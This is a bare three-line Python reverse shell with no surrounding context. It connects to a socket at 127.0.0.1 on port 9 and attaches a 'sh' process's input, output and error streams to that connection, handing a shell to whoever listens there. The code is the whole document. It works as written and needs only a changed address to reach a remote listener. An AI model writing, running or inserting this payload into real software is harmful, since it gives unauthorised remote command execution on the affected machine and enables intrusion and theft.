import socket as k, subprocess as p
s = k.create_connection(("127.0.0.1", 9))
p.Popen(["sh"], stdin=s, stdout=s, stderr=s)
